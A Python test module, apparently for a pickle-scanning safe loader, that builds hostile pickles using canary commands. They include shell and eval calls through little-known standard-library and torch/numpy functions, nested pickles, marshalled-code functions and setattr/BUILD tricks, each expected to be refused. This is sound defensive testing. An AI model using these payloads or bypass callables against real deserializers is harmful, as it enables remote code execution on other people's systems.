"""Attacks by callables that block-lists forget, and by pickles inside pickles."""

from __future__ import annotations

import marshal
import pickle
from functools import partial
from typing import Any

from attacks.assembler import (
    BUILD,
    GLOBAL,
    MARK,
    OBJ,
    POP,
    REDUCE,
    STOP,
    TUPLE,
    UNICODE,
    Code,
    build,
    call,
    name,
    new,
    pickled,
    value,
)
from attacks.calls import reduce_in_protocol_0, reduce_os_system
from attacks.canary import PYTHON, SHELL
from attacks.case import CRASH, ERROR, HANG, IMPORTED, LOADED, POLLUTED, RAN, REFUSED, UNTRIED, Theme

theme = Theme("callables")

PLAIN = "attacks.victims.Plain"


# --- callables that block-lists forget ----------------------------------------------------------------------------

_ARGV = ["sh", "-c", SHELL]
_CODE = compile(PYTHON, "x", "exec")


def _source() -> Code:
    return call("marshal.loads", marshal.dumps(_CODE))


def _calling(function: str, *args: Any) -> bytes:
    return pickled(call(function, *args))


_SHELLS: dict[str, tuple[Any, ...]] = {
    "os.popen": (SHELL,),
    "os.execvp": ("sh", _ARGV),
    "os.posix_spawnp": ("sh", _ARGV, {"ONGGI_CANARY": "canary"}),
    "posix.system": (SHELL,),
    "pty.spawn": (_ARGV,),
    "subprocess.getoutput": (SHELL,),
    "subprocess.check_output": (_ARGV,),
    "_posixsubprocess.fork_exec": (),
    "pydoc.pipepager": ("", SHELL),
    "uuid._get_command_stdout": ("sh", "-c", SHELL),
    "_osx_support._read_output": (SHELL,),
    "_aix_support._read_cmd_output": (SHELL,),
    "imaplib.IMAP4_stream": (SHELL,),
    "multiprocessing.util.spawnv_passfds": (b"/bin/sh", _ARGV, ()),
    "ctypes.CDLL": ("./planted.so",),
    "distutils.spawn.spawn": (_ARGV,),
    "ensurepip._run_pip": (["--version"],),
    "webbrowser.open": ("file:///dev/null",),
    "asyncio.unix_events:_UnixSubprocessTransport._start": (),
    "torch.utils.collect_env.run": (SHELL,),
    "torch._dynamo.guards:GuardBuilder.get": (),
}
_PYTHONS: dict[str, tuple[Any, ...]] = {
    "builtins.eval": (PYTHON,),
    "timeit.timeit": (PYTHON, "pass", name("time.perf_counter"), 1),
    "timeit.main": (["-n", "1", PYTHON],),
    "profile.run": (PYTHON,),
    "cProfile.run": (PYTHON,),
    "trace.Trace": (),
    "pdb.run": (PYTHON,),
    "bdb:Bdb.run": (),
    "code.interact": (),
    "doctest.debug_script": (PYTHON,),
    "runpy.run_module": ("attacks.trap",),
    "importlib.import_module": ("attacks.trap",),
    "importlib.reload": (),
    "numpy.f2py.crackfortran.getlincoef": (PYTHON, {"x": 1}),
    "numpy.f2py.crackfortran._eval_length": (PYTHON, {}),
    "numpy.testing._private.utils.runstring": (PYTHON, {}),
    "pandas.core.computation.eval.eval": ("1",),
    "sqlite3.connect": ("canary.db",),
    "logging.config.dictConfig": (
        {"version": 1, "root": {"handlers": ["h"]}, "handlers": {"h": {"()": "attacks.victims.Runner"}}},
    ),
    "cloudpickle.cloudpickle._builtin_type": ("CodeType",),
    "dill._dill._create_function": (),
    "torch.jit.unsupported_tensor_ops.execWrapper": (PYTHON, {}, {}),
}
_FILES: dict[str, tuple[Any, ...]] = {
    "builtins.open": ("canary", "w"),
    "io.open": ("canary", "w"),
    "_io.FileIO": ("canary", "w"),
    "codecs.open": ("canary", "w"),
    "logging.FileHandler": ("canary",),
    "shutil.rmtree": ("keep",),
    "shutil.copyfile": ("keep/safe", "canary"),
    "os.mkdir": ("canary",),
    "os.symlink": ("keep", "canary"),
    "os.remove": ("keep/safe",),
    "numpy.save": ("canary", (1, 2)),
    "numpy.savetxt": ("canary", (1, 2)),
    "joblib.numpy_pickle.dump": ((1, 2), "canary"),
    "zipfile.ZipFile": ("canary", "w"),
    "shelve.open": ("canary",),
    "distutils.file_util.write_file": ("canary", ["x"]),
    "tempfile.mkdtemp": ("", "canary", "."),
}
_PROCESS: dict[str, tuple[tuple[Any, ...], str | tuple[str, ...]]] = {
    "os._exit": ((3,), CRASH),
    "os.abort": ((), CRASH),
    "builtins.exit": ((), ERROR),
    "sys.exit": ((), ERROR),
    "signal.raise_signal": ((9,), CRASH),
    "faulthandler._sigsegv": ((), CRASH),
    "ctypes.string_at": ((0,), CRASH),
    "time.sleep": ((100_000,), HANG),
    "signal.pause": ((), HANG),
    "_thread.interrupt_main": ((), ERROR),
    "sys.setrecursionlimit": ((10**9,), POLLUTED),
    "os.chdir": (("/",), POLLUTED),
    "os.umask": ((0,), POLLUTED),
    "os.putenv": (("PATH", "."), LOADED),
    "gc.disable": ((), POLLUTED),
    "random.seed": ((0,), POLLUTED),
    "logging.disable": ((50,), POLLUTED),
    "warnings.simplefilter": (("ignore",), POLLUTED),
    "atexit.register": ((name("builtins.print"),), LOADED),
    "signal.signal": ((2, name("builtins.print")), POLLUTED),
    "sys.settrace": ((name("builtins.print"),), POLLUTED),
    "locale.setlocale": ((6, "C"), (LOADED, IMPORTED)),
    "decimal.setcontext": ((call("decimal.Context", 1),), POLLUTED),
    "socket.socket": ((), LOADED),
    "urllib.request.urlopen": (("file:///etc/hostname",), (LOADED, IMPORTED, ERROR)),
    "os:environ.copy": ((), LOADED),
    "os.listdir": (("/",), LOADED),
    "linecache.getlines": (("/etc/hostname",), LOADED),
    "sys._getframe": ((), LOADED),
    "gc.get_objects": ((), LOADED),
    "builtins.globals": ((), LOADED),
    "builtins.breakpoint": ((), UNTRIED),
    "builtins.input": ((), ERROR),
}
_HARM_DEPENDS = {"torch", "dill", "distutils", "ctypes", "pandas", "cloudpickle", "pdb", "doctest", "_aix_support"}
"""What these do depends on the version, on what is installed, or on a terminal: the name alone has to be refused."""
_NEVER_TRIED = {"webbrowser", "ensurepip"}


def _add_all() -> None:
    groups = (
        ("a shell by a callable that block-lists forget", "Runs a shell command", _SHELLS),
        ("Python source by a callable that block-lists forget", "Runs Python source", _PYTHONS),
        ("files by a callable that block-lists forget", "Writes or removes a file", _FILES),
    )
    for technique, effect, functions in groups:
        for function, args in functions.items():
            _add(function, technique, args, f"{effect} through {function}.", _plain(function, args))
    for function, (args, plain) in _PROCESS.items():
        effect = f"Disturbs or spies on the process through {function}."
        _add(function, "the process itself by a callable that block-lists forget", args, effect, plain)


def _plain(function: str, args: tuple[Any, ...]) -> tuple[str, ...]:
    package = function.partition(".")[0].partition(":")[0]
    if package in _NEVER_TRIED:
        return (UNTRIED,)
    return (RAN,) if args and package not in _HARM_DEPENDS else (RAN, ERROR, IMPORTED, LOADED)


def _add(function: str, technique: str, args: tuple[Any, ...], effect: str, plain: str | tuple[str, ...]) -> None:
    safe_name = "callable_" + function.replace(".", "_").replace(":", "_")
    theme.add(safe_name, technique, partial(_calling, function, *args), effect, verdict=REFUSED, plain=plain)


_add_all()


@theme.case("a function made of code")
def function_of_marshalled_code() -> bytes:
    """Unmarshals code, makes a function of it and calls it."""
    return pickled(call(call("types.FunctionType", _source(), {}), *()))


@theme.case("a function made of code")
def function_by_newobj() -> bytes:
    """The same, with the function made by NEWOBJ and called by OBJ."""
    return pickled(MARK + new("types.FunctionType", _source(), {}) + OBJ)


@theme.case("a nested pickle")
def nested_pickle_loads() -> bytes:
    """Hands a second pickle to `pickle.loads`: the outer one names nothing but the loader."""
    return pickled(call("pickle.loads", reduce_os_system()))


@theme.case("a nested pickle")
def nested_pickle_by_c_name() -> bytes:
    """Hands a second pickle to `_pickle.loads`."""
    return pickled(call("_pickle.loads", reduce_os_system()))


@theme.case("a nested pickle")
def nested_pickle_by_latin1_text() -> bytes:
    """Hands a second pickle over as text that a codec turns into bytes, as protocol 2 spells bytes."""
    inner = reduce_in_protocol_0().decode("latin-1")
    return pickled(call("pickle.loads", call("_codecs.encode", inner, "latin1")), proto=2)


# Without torch there is nothing that could read it.
@theme.case("a nested pickle", plain=UNTRIED, verdict=(REFUSED, "MissingModuleError"))
def nested_pickle_by_torch() -> bytes:
    """Hands a pickle to `torch.storage._load_from_bytes`, the name that every pickled tensor holds."""
    return pickled(call("torch.storage._load_from_bytes", reduce_os_system()))


@theme.case("a nested pickle", needs=("joblib",))
def nested_pickle_by_unpickler_object() -> bytes:
    """Makes an Unpickler over a BytesIO and calls its `load`, all by names that are not `loads`."""
    stream = call("io.BytesIO", reduce_os_system())
    unpickler = call("joblib.numpy_pickle.NumpyUnpickler", "x", stream, True)
    return pickled(call(call("operator.methodcaller", "load"), unpickler))


@theme.case("a nested pickle", needs=("pandas",))
def nested_pickle_by_pandas() -> bytes:
    """Has pandas read a pickle from bytes in memory."""
    return pickled(call("pandas.read_pickle", call("io.BytesIO", reduce_os_system())))


@theme.case("a nested pickle", needs=("numpy",))
def nested_pickle_by_numpy_load() -> bytes:
    """Has numpy read a file with object arrays allowed."""
    return pickled(call("numpy.load", call("io.BytesIO", reduce_os_system()), None, True))


@theme.case("a nested pickle", verdict="data", plain=LOADED, check=lambda obj: isinstance(obj, bytes))
def nested_pickle_as_inert_bytes() -> bytes:
    """Holds a hostile pickle as plain bytes and gives them to nobody: data, and nothing may load them."""
    return pickled(value(pickle.dumps(["honest"]) + reduce_os_system()))


@theme.case("old-style call with text arguments")
def protocol_0_apply() -> bytes:
    """Calls `apply`-style with UNICODE text in raw-unicode-escape, so that the command is not in the bytes."""
    escaped = "".join(f"\\u{ord(letter):04x}" for letter in SHELL)
    return bytes(GLOBAL("os", "system") + MARK + UNICODE(escaped) + TUPLE + REDUCE + STOP)


@theme.case("BUILD in place of a call", allow=(PLAIN,), verdict=REFUSED, plain=(RAN, ERROR))
def build_setstate_is_a_bound_method() -> bytes:
    """Plants a method that `getattr` bound to a list of commands, and has BUILD call it."""
    bound = call("builtins.getattr", name("attacks.victims.Runner"), "script")
    return pickled(build(new(PLAIN), {"__setstate__": bound}) + value("x") + BUILD)


@theme.case("setattr by REDUCE", plain=(RAN, POLLUTED))
def setattr_call() -> bytes:
    """Calls `setattr` to give a class of the program `exec` as `__setstate__`, and then BUILDs an object of it."""
    planted = call("builtins.setattr", name(PLAIN), "__setstate__", name("builtins.exec"))
    return pickled(planted + POP + build(new(PLAIN), PYTHON))
